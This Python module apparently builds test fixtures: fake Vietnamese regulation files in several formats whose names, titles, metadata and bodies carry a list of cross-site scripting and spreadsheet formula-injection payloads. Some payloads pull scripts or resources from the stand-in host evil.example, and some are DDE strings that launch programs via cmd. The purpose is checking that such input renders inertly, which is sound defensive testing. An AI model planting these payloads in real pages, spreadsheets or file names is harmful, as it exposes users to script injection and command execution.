"""Words made to run as script or as a formula, and files that hold them everywhere."""

from __future__ import annotations

import html
import json
from pathlib import Path

from hostile_files import docx, said

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x></script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>x</script>",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/a.png>", "<img/src/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>", "<IMG SRC=javascript:alert(1)>",
    "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>",
    "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/o></object>", "<embed src=http://evil.example/e>",
    "<link rel=stylesheet href=http://evil.example/s.css>", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>x", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x", "<a href=javascript:alert(1)>bấm</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
    "<style>@import url(http://evil.example/s.css);</style>",
    "<div style=background:url(http://evil.example/b)>",
    "<p style='animation:x' onanimationstart=alert(1)>", "![ảnh](http://evil.example/m.png)",
    "[bấm](javascript:alert(1))", "<http://evil.example/l>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}",
    "javascript:alert(1)//", "'-alert(1)-'", "\\\"-alert(1)//", ":material/home: :red[x] $x$",
    "=HYPERLINK(\"http://evil.example/\";\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|x!A0", "@SUM(1+1)*cmd|x!A0", "\t=1+1", "＝1+1",
)  # fmt: skip
"""Each is to be seen as it stands here, and to do nothing."""


def number_of(place: int) -> str:
    """The number of the document that holds a payload."""
    return f"{300 + place}-QĐ/TW"


def make_files(folder: Path) -> None:
    """Two files for each payload, and one that holds them all and cites their documents.

    One has it in its title, one in its body (TXT, HTML, DOCX in turn) or in its number; all have
    it in their names.
    """
    for place, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "∕").strip()
        (folder / f"{name}.md").write_bytes(_titled(number_of(place), payload.strip(), payload))
        make, kind = KINDS[place % len(KINDS)]
        (folder / f"{name} 2.{kind}").write_bytes(make(place, payload))
    every = "\n".join(f"{n}. {payload} chuồn chuồn" for n, payload in enumerate(PAYLOADS, 1))
    cited = "\n".join(f"Theo Quy định số {number_of(n)}." for n in range(len(PAYLOADS)))
    text = f"{HEAD.format(number=299)}Về tất cả\nĐiều 1. Mọi lời\n{every}\nĐiều 2. Kể\n{cited}\n"
    (folder / "tat-ca.txt").write_text(text, encoding="utf-8")


def _titled(number: str, title: str, payload: str) -> bytes:
    fields = {
        "so_ky_hieu": number, "loai": "Quy định", "trich_yeu": title, "co_quan": payload.strip(),
        "ngay": "2021-03-02", "edition": "toàn văn",
    }  # fmt: skip
    lines = [f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in fields.items()]
    head = "\n".join(lines)
    return f"---\n{head}\n---\nĐiều 1. Về {payload}\nTheo Quy định 299-QĐ/TW: {payload}\n".encode()


def _numbered(place: int, payload: str) -> bytes:
    return _titled(payload.strip(), f"Việc thứ {place}", payload)


def _plain(place: int, payload: str) -> bytes:
    head = HEAD.format(number=500 + place)
    return f"{head}Về việc thứ {place}\nĐiều 1. Về {payload}\nLời văn: {payload}.\n".encode()


def _web(place: int, payload: str) -> bytes:
    lines = _plain(place, payload).decode().split("\n")
    paragraphs = "".join(f"<p>{html.escape(line)}</p>" for line in lines)
    return f"<html><meta charset=utf-8><body>{paragraphs}{payload}</body></html>".encode()


def _word(place: int, payload: str) -> bytes:
    lines = _plain(place, payload).decode().split("\n")
    return docx(b"".join(said(html.escape(line)) for line in lines))


HEAD = "BỘ CHÍNH TRỊ\nSố {number}-QĐ/TW\nHà Nội, ngày 02 tháng 3 năm 2021\nQUY ĐỊNH\n"
KINDS = ((_plain, "txt"), (_web, "html"), (_word, "docx"), (_numbered, "md"))
